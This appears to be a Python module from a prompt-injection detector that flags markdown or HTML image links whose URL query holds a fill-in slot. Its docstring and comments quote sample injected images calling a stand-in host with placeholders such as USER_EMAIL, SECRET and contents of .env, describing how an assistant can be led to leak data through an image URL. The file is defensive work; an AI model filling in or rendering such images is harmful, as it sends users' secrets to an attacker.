"""Whether an image URL in a document has a slot for data: what makes an image an exfiltration channel.

An injected image (`![](https://host/p.gif?d=USER_EMAIL)`, `![x](https://host/p.png?q=)`) leaks data when the
assistant fills a query value in; a README badge (`![CI](https://…/badge.svg?branch=main)`,
`<img src="https://img.shields.io/…?color=blue">`) has its values written out. The family patterns run on
lower-cased text, so the slot is read here, on the original."""

from __future__ import annotations

import re

_QUERY = re.compile(r"[?&#]([^=&#\s)'\"<>]{0,40}=)?([^&#\s)'\"<>]*)")
# A value the assistant is to fill in: a name in capitals (`SECRET`, `USER_EMAIL_AND_LAST_MESSAGES`,
# `REPLACE_WITH_CONTENTS_OF_.env`), lower-case words joined by underscores (`user_email_here`), a bracketed or
# `$`/`%` placeholder, an ellipsis, or words of a language (`بيانات_المستخدم`); an empty value waits for one.
_SLOT = re.compile(r"[A-Z]{1,40}(?:_[A-Za-z0-9.]*)*|[a-z]+(?:_[a-z0-9]+){2,}|[\[{<$%].*|.*\.\.\..*|.*[^\x00-\x7f].*")


def has_data_slot(image: str) -> bool:
    """`image`: the matched `![alt](url)` or `<img … src=url`, as written. True when a query or fragment value of
    its URL is empty or a slot (`_SLOT`)."""
    url_at = image.find("](") if image.startswith("!") else image.lower().find("src")
    for m in _QUERY.finditer(image, max(url_at, 0)):
        value = m.group(2)
        if not value or _SLOT.fullmatch(value):
            return True
    return False
